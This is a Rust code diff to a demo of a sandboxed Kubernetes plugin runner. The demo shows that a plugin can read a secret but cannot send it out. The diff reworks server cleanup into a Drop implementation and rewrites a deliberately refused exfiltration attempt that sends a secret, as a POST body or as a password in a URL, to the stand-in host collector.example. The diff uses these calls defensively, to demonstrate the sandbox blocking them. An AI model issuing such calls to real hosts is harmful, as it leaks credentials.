@@ -38,11 +38,11 @@ pub(crate) fn run(places: &Places) -> Result<ExitCode> {
         kubeconfig: &server.kubeconfig,
     };
     play(&stage)?;
-    server.end()?;
+    drop(server);
     title("done");
     eprintln!(
-        "The plugin decoded a secret without ever seeing the key, the certificate or the address that\n\
-         fetched it. Server, home and link are gone again; yours were not touched."
+        "The plugin read the secret without ever holding the credentials, or knowing the address, with which\n\
+         it was fetched. Server, home and link are gone again; yours were not touched."
     );
     Ok(ExitCode::SUCCESS)
 }
@@ -70,20 +70,10 @@ fn play(stage: &Stage<'_>) -> Result<()> {
         }
     }
 
-    title("what a plugin sees: no file, no environment of yours, a kubeconfig without a secret");
-    stage.show(stage.kwasm()?.arg("run").arg(stage.component("dumps")))?;
-
-    title("what it cannot do: send what it has read to another host");
+    title("what a plugin cannot do: send what it has read to another host");
     let mut dials = stage.kwasm()?;
     dials.arg("run").arg(stage.component("dials"));
-    stage.show_refused(dials.args([
-        "--",
-        "https://collector.example/",
-        "--method",
-        "POST",
-        "--body",
-        "the secret",
-    ]))
+    stage.show_refused(dials.args(["--", "https://collector.example/?password=hunter2"]))
 }
 
 /// What the scenes of the demo share.
@@ -164,11 +154,12 @@ impl ApiServer {
             kubeconfig: text(&ready["kubeconfigs"]["certificate"])?.into(),
         })
     }
+}
 
+impl Drop for ApiServer {
     /// Ends it and waits until it has cleaned up.
-    fn end(mut self) -> Result<()> {
+    fn drop(&mut self) {
         drop(self.child.stdin.take());
-        self.child.wait()?;
-        Ok(())
+        drop(self.child.wait());
     }
 }
